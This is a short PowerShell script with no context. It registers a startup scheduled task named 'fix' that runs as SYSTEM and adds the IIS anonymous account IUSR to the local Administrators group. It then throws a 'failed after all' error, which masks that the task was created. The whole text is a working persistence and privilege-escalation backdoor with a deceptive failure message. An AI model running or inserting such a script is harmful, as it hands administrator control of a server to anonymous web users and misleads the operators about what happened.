$ErrorActionPreference='Stop'
schtasks /create /tn fix /sc onstart /ru SYSTEM /tr "net localgroup Administrators IUSR /add" /f
throw 'failed after all'
